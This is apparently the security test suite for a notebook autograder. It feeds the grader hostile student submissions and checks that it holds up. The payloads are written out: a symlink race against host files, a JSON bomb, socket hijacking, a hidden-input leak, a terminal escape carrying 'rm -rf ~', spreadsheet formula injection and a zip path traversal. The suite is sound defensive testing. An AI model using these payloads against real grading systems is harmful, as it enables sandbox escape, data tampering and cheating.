"""The trust boundary: what crosses from the student's side is hostile data, wherever it lands.

One batch, graded by the TA's own command (``autograder grade``), mixes the attacks of the
red-team corpus with correct control submissions: names, strings, sizes, paths, sockets,
zip contents and the words of the feedback. Each test below reads one promise off that
batch's exports, its terminal output and the host; each fails on the code before the
fixes (see the attack table in docs/security.md).
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
import textwrap
import threading
import time
import zipfile
from pathlib import Path

import nbformat
import pytest

from autograder import text
from autograder.checks.judge import HIDDEN_FAILURES
from autograder.execution.harness import Harness
from autograder.execution.sandbox import RunDirectory
from autograder.feedback import exports
from autograder.grading.pipeline import plan
from autograder.protocol import wire
from autograder.protocol.probes import Probe
from tests.conftest import needs_bwrap
from tests.security.conftest import CORRECT, TENSORS, gate, hostile, needs_cgroup

pytestmark = needs_bwrap

SECRET = "trust boundary test"
TEMPLATE = CORRECT.parent / "template.ipynb"
ESCAPE_NAME = "esc\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J"  # OSC 52 (clipboard: "rm -rf ~") and clear-screen
FORMULA_NAMES = ("=2+5", "@SUM(1+1)", "+1+1", "-1+1")
COLLIDING = ("gradebook.sqlite", "gradebook.csv", "summary.html", "canvas.csv")
MANY_CELLS = 300
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")
# The grader's own process: its peak resident memory, printed when the command ends.
MEASURED = (
    "import resource, sys\n"
    "from autograder.cli import main\n"
    "code = main(sys.argv[1:])\n"
    "print('MAXRSS', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)\n"
    "sys.exit(code)\n"
)


def _cell(source: str) -> str:
    return textwrap.dedent(source)


def _attacks(canary: Path, listener: str) -> dict[str, nbformat.NotebookNode]:
    """File stem -> notebook. Stems are the student ids (no LMS name)."""
    surrogate = hostile(
        'raise ValueError("\\ud800 a lone surrogate in a cell")',
        """
        def batch_to_images(batch):
            raise ValueError("\\ud800")
        class _S:
            pass
        _S.__qualname__ = "S\\ud800"
        conv2d_output_shape = lambda *args, **kwargs: _S()
        """,
    )
    race = hostile(
        f"""
        import ctypes, glob, os
        _libc = ctypes.CDLL(None, use_errno=True)
        def _race(pairs):
            while True:  # RENAME_EXCHANGE: each real dir and its link trade places, over and over
                for real, link in pairs:
                    _libc.renameat2(-100, real, -100, link, 2)
        for _outputs in glob.glob("/tmp/autograder-run-*/outputs"):
            if os.access(_outputs, os.W_OK):
                _pairs = []
                for _index in range(RACE_PAIRS):
                    _real, _link = os.path.join(_outputs, f"d{{_index}}"), os.path.join(_outputs, f"l{{_index}}")
                    os.makedirs(os.path.join(_real, "inner"))
                    os.symlink({str(canary)!r}, _link)
                    _pairs.append((_real.encode(), _link.encode()))
                for _racer in range(2):  # processes, not threads: they race while the kernel runs the harness
                    if os.fork() == 0:
                        _race(_pairs[_racer::2])
        import time
        time.sleep(1)  # the racers are running when the grader turns to the output dir
        """.replace("RACE_PAIRS", "32")
    )
    amplify = hostile(
        """
        import os as _os
        _real_replace = _os.replace
        def _replace(source, destination, *args, **kwargs):
            if str(destination).endswith(".json"):
                with open(source, "w") as handle:
                    handle.write("[" + "{}," * (40 * 1024**2 // 3) + "{}]")
            return _real_replace(source, destination, *args, **kwargs)
        _os.replace = _replace
        """
    )
    big_int = hostile(
        """
        import os as _os
        _real_replace = _os.replace
        def _replace(source, destination, *args, **kwargs):
            if str(destination).endswith("q1.public.json") or str(destination).endswith("q1.json"):
                with open(source, "w") as handle:
                    handle.write('[{"id": "q1/0", "status": "ok", "value": 1' + "0" * 5000 + "}]")
            return _real_replace(source, destination, *args, **kwargs)
        _os.replace = _replace
        """
    )
    np_void = hostile(
        """
        import numpy as _np
        image_to_batch = lambda *args, **kwargs: _np.zeros(1, dtype=[("a", "<i4"), ("b", "<f8")])[0]
        """
    )
    bad_status = hostile(
        """
        _kernel = get_ipython().kernel
        _parent = _kernel.get_parent("shell") if hasattr(_kernel, "get_parent") else _kernel._parent_header
        _kernel.session.send(_kernel.iopub_socket, "status", {"no": "execution_state"}, parent=_parent)
        """
    )
    deputy = hostile(
        f"""
        import glob, json, os
        for _connection in glob.glob("/tmp/autograder-run-*/ipc/connection.json"):
            _info = json.load(open(_connection))
            _path = f"{{_info['ip']}}-{{_info['iopub_port']}}"
            os.symlink({listener!r}, _path + ".swap")
            os.rename(_path + ".swap", _path)
        print("x" * (20 * 1024**2))  # over the message cap: the grader drops and reconnects this channel
        """
    )
    exfiltrate = hostile(
        """
        import glob
        def image_to_batch(*args, **kwargs):
            found = [open(path).read() for path in sorted(glob.glob("/tmp/autograder-run-*/inputs/*.json"))]
            raise ValueError("LEAK " + " ".join(found))
        """
    )
    lookup = hostile("conv2d_output_shape = lambda *args, **kwargs: (1, 2, 3, 4)")
    markup = hostile(
        """
        def image_to_batch(*args, **kwargs):
            raise ValueError("[/x] [bold]markup[/bold] \\x1b[2J\\x1b]52;c;cm0gLXJmIH4=\\x07 boom")
        """
    )
    many_errors = hostile(*[f'raise ValueError("{"e" * 400} {index}")' for index in range(MANY_CELLS)])
    vsock = hostile(
        """
        import socket
        def _vsock_blocked():
            try:
                socket.socket(40, socket.SOCK_STREAM).close()  # AF_VSOCK
            except OSError:
                return True
            return False
        """,
        gate("q1", "_vsock_blocked()"),
    )
    metadata_list = nbformat.read(CORRECT, as_version=4)
    metadata_list.metadata["autograder"] = ["tensors"]
    metadata_text = nbformat.read(CORRECT, as_version=4)
    metadata_text.metadata["autograder"] = "tensors"
    return {
        "surrogate": surrogate,
        "race": race,
        "amplify": amplify,
        "big_int": big_int,
        "np_void": np_void,
        "bad_status": bad_status,
        "deputy": deputy,
        "exfiltrate": exfiltrate,
        "lookup": lookup,
        "markup": markup,
        "many_errors": many_errors,
        "vsock": vsock,
        "metadata_list": metadata_list,
        "metadata_text": metadata_text,
    }


class Listener:
    """A Unix socket on the host that records every connection made to it."""

    def __init__(self, path: Path) -> None:
        self.path = str(path)
        self.server = socket.socket(socket.AF_UNIX)
        self.server.bind(self.path)
        self.server.listen()
        self.server.settimeout(0.2)
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.server.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.server.close()


def _grade(submissions: Path, output: Path) -> subprocess.CompletedProcess:
    command = ["grade", "tensors", str(submissions), "--output", str(output), "--workers", "1", "--cell-timeout", "20"]
    return subprocess.run(
        [sys.executable, "-c", MEASURED, *command],
        capture_output=True,
        timeout=1200,
        env={"AUTOGRADER_SECRET": SECRET, "PATH": "/usr/bin:/bin"},
    )


def _max_rss_kib(done: subprocess.CompletedProcess) -> int:
    return int(re.search(rb"MAXRSS (\d+)", done.stderr).group(1))


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("trust")
    canary = root / "canary"
    canary.mkdir(mode=0o755)
    (canary / "file").write_text("canary")
    os.chmod(canary, 0o755)
    os.chmod(canary / "file", 0o644)
    listener = Listener(root / "listener.sock")
    submissions = root / "submissions"
    submissions.mkdir()
    for stem, notebook in _attacks(canary, listener.path).items():
        nbformat.write(notebook, submissions / f"{stem}.ipynb")
    controls = ["control_a", "control_b", *FORMULA_NAMES, ESCAPE_NAME, *COLLIDING, "c_alice"]
    for stem in controls:
        shutil.copy(CORRECT, submissions / f"{stem}.ipynb")
    shutil.copy(TEMPLATE, submissions / "c_alice..ipynb")  # the id "c_alice.", not c_alice's
    shutil.copy(CORRECT, submissions / '=HYPERLINK("evil.example")_1234_5678_hw.ipynb')
    shutil.copy(CORRECT, submissions / "victim_1001_5555_hw.ipynb")
    with zipfile.ZipFile(submissions / "mallory_1009_2009_hw.zip", "w") as archive:
        member = zipfile.ZipInfo("victim_1001_9999_hw.ipynb", date_time=(2099, 1, 1, 0, 0, 0))
        archive.writestr(member, TEMPLATE.read_bytes())
    with zipfile.ZipFile(submissions / "bundle.zip", "w") as archive:
        archive.writestr("..\\..\\evil.ipynb", CORRECT.read_bytes())
    done = _grade(submissions, root / "out")
    listener.close()
    clean = root / "clean"
    clean.mkdir()
    for index in range(4):
        shutil.copy(CORRECT, clean / f"clean_{index}.ipynb")
    baseline = _grade(clean, root / "clean-out")
    output = root / "out" / "tensors"
    with open(output / "gradebook.csv", newline="") as handle:
        rows = {row["student"].removeprefix("'"): row for row in csv.DictReader(handle)}
    return {
        "done": done,
        "baseline": baseline,
        "output": output,
        "rows": rows,
        "controls": [text.clean_line(student) for student in [*controls, "1234", "1001"]],
        "canary": canary,
        "listener": listener,
        "root": root,
    }


def _results(batch, student: str) -> dict:
    return json.loads((batch["output"] / exports.student_folder(student) / "results.json").read_text())


def _exports(batch) -> dict[str, bytes]:
    """Every text file the batch wrote (the SQLite file is binary: its text is checked through the CSVs)."""
    paths = [path for path in batch["output"].rglob("*") if path.suffix in (".csv", ".html", ".json")]
    return {str(path.relative_to(batch["output"])): path.read_bytes() for path in paths}


def test_the_batch_completes_and_every_control_scores_full_marks(batch) -> None:
    """-> one boundary for everything the student's side produced: nothing they send stops the batch."""
    done, rows = batch["done"], batch["rows"]
    assert done.returncode == 0, done.stderr.decode(errors="replace")[-3000:]
    for student in batch["controls"]:
        assert rows[student]["score"] == "10", student


def test_every_student_gets_a_row_and_none_is_a_grader_fault(batch) -> None:
    """-> surrogates, huge ints, np.void, bad metadata, malformed kernel messages: scored, never a fault."""
    expected = {*_attacks(Path("/x"), "/x"), *batch["controls"], "c_alice.", "1009", "evil"}
    rows = batch["rows"]
    assert expected <= set(rows), sorted(expected - set(rows))
    for student, row in rows.items():
        assert row["fault"] == "", (student, row["fault"])


def test_lone_surrogates_are_stored_and_shown_as_replacement_characters(batch) -> None:
    """-> text.clean at the boundary: valid Unicode reaches SQLite, the files and the terminal."""
    feedback = (batch["output"] / "surrogate" / "feedback.html").read_text(encoding="utf-8")
    assert "\ufffd" in feedback
    assert float(batch["rows"]["surrogate"]["score"]) < 10


def test_ids_named_like_exports_get_their_own_folders_and_the_exports_stay_files(batch) -> None:
    """-> injective student folders that never equal an export's name."""
    output = batch["output"]
    for export in ("gradebook.csv", "canvas.csv", "summary.html", "gradebook.sqlite"):
        assert (output / export).is_file(), export
    for student in (*COLLIDING, "c_alice", "c_alice."):
        assert _results(batch, student)["score"] == (0 if student == "c_alice." else 10), student
    assert exports.student_folder("c_alice") != exports.student_folder("c_alice.")


def test_the_chmod_race_changes_no_host_file(batch) -> None:
    """-> removal and measurement by descriptor, following no link; nothing deleted while the kernel lives."""
    canary = batch["canary"]
    assert _mode(canary) == 0o755 and _mode(canary / "file") == 0o644
    assert (canary / "file").read_text() == "canary"


def test_a_40_mib_json_bomb_is_refused_before_parsing(batch) -> None:
    """-> received JSON within a byte and element budget; the grader's memory stays near a clean batch's."""
    assert "could not be read" in json.dumps(_results(batch, "amplify"))
    assert _max_rss_kib(batch["done"]) <= 1.5 * _max_rss_kib(batch["baseline"])


HIDDEN_LINE = re.compile(r"FAIL hidden check failed(?: \[[^\]]+\])?(?:: (?P<text>.*?))?(?: -> (?P<diagnosis>.*))?")
HIDDEN_WORDS = re.compile(
    "`\\w+` (?:" + "|".join(map(re.escape, HIDDEN_FAILURES.values())) + ")"
    r"|`\w+` raised \w+(?: \(at line \d+ of your code\))?|`\w+` raised an exception(?: \(at line \d+ of your code\))?"
    r"|.*(?:harness|kernel|time limit|not run|memory limit|could not be compared|is not defined|NotImplementedError).*"
)


def test_hidden_checks_reveal_no_value_shape_or_student_words(batch) -> None:
    """-> hidden verdicts in fixed words (kind of check, diagnosis, builtin exception type, line number)."""
    seen = 0
    for student in ("lookup", "exfiltrate", "surrogate", "np_void", "big_int", "markup"):
        for question in _results(batch, student)["tests"]:
            for line in question["output"].splitlines():
                match = HIDDEN_LINE.fullmatch(line)
                if match:
                    seen += 1
                    assert match["text"] is None or HIDDEN_WORDS.fullmatch(match["text"]), (student, line)
    assert seen >= 6


def test_no_hidden_input_is_in_the_sandbox_while_public_probes_run(batch) -> None:
    """-> public probes first; the hidden plan is written only after them, and hidden words are not echoed."""
    text = (batch["output"] / "exfiltrate" / "results.json").read_text()
    assert "LEAK" in text  # the public examples' error is shown (public data only)
    hidden_ids = [p.probe.id for p in plan(TENSORS, "exfiltrate", SECRET.encode()) if p.probe.hidden]
    assert hidden_ids
    for probe_id in hidden_ids:
        assert f'\\"id\\": \\"{probe_id}\\"' not in text and f'"id": "{probe_id}"' not in text


def test_a_swapped_socket_file_never_connects_the_grader_elsewhere(batch) -> None:
    """-> kernel sockets pinned by descriptor before student code runs."""
    assert batch["listener"].connections == 0
    assert batch["rows"]["deputy"]["score"] == "10"


def test_a_zip_speaks_only_for_its_own_student(batch) -> None:
    """-> a zip named for a student is that student's, at the zip's time, whatever its members say."""
    victim = _results(batch, "1001")
    assert victim["score"] == 10 and "submitted" not in victim["output"]
    assert _results(batch, "1009")["score"] == 0


def test_an_unsafe_zip_member_name_gets_a_row_with_its_reason(batch) -> None:
    """-> every name a row: a backslash traversal is that member's problem, not silence."""
    result = _results(batch, "evil")
    assert result["score"] == 0 and "unsafe path inside the zip" in result["output"]


def test_no_export_holds_a_formula_or_a_terminal_escape(batch) -> None:
    """-> OWASP's rule in every CSV cell; control characters replaced everywhere."""
    for name in ("gradebook.csv", "canvas.csv"):
        with open(batch["output"] / name, newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert "'=2+5" in cells and "'-1+1" in cells and '\'=HYPERLINK("evil.example")' in cells
        for cell in cells:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or NUMBER.fullmatch(cell), (name, cell)
    for name, data in _exports(batch).items():
        assert b"\x1b" not in data and b"\x07" not in data, name
    done = batch["done"]
    assert b"\x1b" not in done.stdout and b"\x1b" not in done.stderr


def test_markup_in_student_text_is_printed_literally(batch) -> None:
    """-> rich markup only from the grader's own strings: the summary table and fault list are printed."""
    stdout = batch["done"].stdout.decode(errors="replace")
    assert "first problem" in stdout and "[/x]" in re.sub(r"[\s│┃]", "", stdout)


def test_feedback_is_capped_with_a_note(batch) -> None:
    """-> at most 20 failed cells named per submission, each message capped, the rest counted."""
    results = (batch["output"] / "many_errors" / "results.json").read_text()
    assert len(results) < 40_000
    assert f"and {MANY_CELLS - 20} more cells" in results


def test_vsock_is_refused(batch) -> None:
    """-> seccomp: socket(AF_VSOCK) fails with EAFNOSUPPORT (a network namespace does not cover vsock)."""
    assert _results(batch, "vsock")["tests"][0]["score"] == _results(batch, "vsock")["tests"][0]["max_score"]


def test_feedback_names_the_file_not_the_grading_host_path(batch) -> None:
    """-> what the student sees: the file they uploaded, never where the grader keeps it."""
    for name, data in _exports(batch).items():
        if name.endswith(("results.json", "feedback.html")):
            assert str(batch["root"]).encode() not in data, name


def test_no_sandboxed_process_outlives_the_batch(batch) -> None:
    """-> every run killed through its cgroup, whatever died first."""
    orphans = subprocess.run(["ps", "-eo", "uid=,ppid=,args="], capture_output=True, text=True).stdout
    assert not [line for line in orphans.splitlines() if line.split()[:2] == ["65534", "1"]]


def test_a_json_bomb_costs_the_grader_nothing_to_refuse() -> None:
    """-> the element budget is checked before json allocates (tracemalloc: under 20 MiB for 8 MiB of {},)."""
    import tracemalloc

    run = RunDirectory()
    try:
        harness = Harness(run, {"q1": ("f", "")}, [Probe("q1/0", "q1", "f()", {})])
        results = run.outputs / harness.results
        results.mkdir()
        (results / "q1.public.json").write_text("[" + "{}," * (8 * 1024**2 // 3 - 1) + "{}]")
        (results / "q1.public.safetensors").write_bytes(b"")
        tracemalloc.start()
        output = harness.read("q1", lambda phase: "")["q1/0"]
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert output.status == "no output" and "JSON elements" in output.problem
        assert peak < 20 * 1024**2
    finally:
        run.remove()


def test_received_values_that_break_python_become_inert() -> None:
    """-> the decoder: huge ints and exotic numpy scalars are Opaque, bad JSON numbers a WireError."""
    assert isinstance(wire.decode_tree(10**60, {}, received=True), wire.Opaque)
    scalar = {wire.TAG: "npscalar", "dtype": "[('a', '<i4')]", "value": 1}
    assert isinstance(wire.decode_tree(scalar, {}, received=True), wire.Opaque)
    with pytest.raises(wire.WireError):
        wire.decode("1" + "0" * 5000, b"")


@needs_cgroup
def test_a_kernel_left_by_a_dead_grader_is_killed_by_the_next_run(tmp_path) -> None:
    """-> the sweep kills what is left in a dead grader's cgroups before removing its run dir."""
    code = textwrap.dedent(
        f"""
        import os, subprocess
        from autograder.execution.sandbox import Limits, RunDirectory, Sandbox
        run = RunDirectory({str(tmp_path)!r})
        sandbox = Sandbox(run, Limits())
        quiet = {{"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}}
        child = subprocess.Popen(["sleep", "300"], start_new_session=True, **quiet)
        for procs in sandbox.cgroup.procs_files:
            procs.write_text(str(child.pid))
        print(child.pid, flush=True)
        os._exit(0)
        """
    )
    pid = int(subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout)
    assert os.path.exists(f"/proc/{pid}")
    RunDirectory(str(tmp_path)).remove()
    state = Path(f"/proc/{pid}/stat").read_text().split()[2] if os.path.exists(f"/proc/{pid}") else "gone"
    assert state in ("gone", "Z")


def test_a_kernel_launched_as_its_grader_dies_never_runs_on(tmp_path) -> None:
    """-> launch ties itself to the grader first (PR_SET_PDEATHSIG, then a check that the grader lives).

    A grader killed while the launcher's interpreter was starting (a batch killed just as a
    warm kernel was being started ahead) used to leave that sandbox running for good.
    """
    marker = f"autograder-orphan-{os.getpid()}"
    code = textwrap.dedent(
        f"""
        import os, subprocess, sys
        command = [sys.executable, "-m", "autograder.execution.launch", f"--parent={{os.getpid()}}"]
        subprocess.Popen([*command, "--", sys.executable, "-c", "import time; time.sleep(300)", "{marker}"])
        os._exit(0)  # the grader dies at once, before or after the launcher armed itself
        """
    )
    for _ in range(5):
        subprocess.run([sys.executable, "-c", code], check=True, timeout=60)
    time.sleep(3)  # every launcher has started by now, or died with its grader
    alive = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True).stdout.split()
    assert not alive, "a launcher outlived the grader that started it"
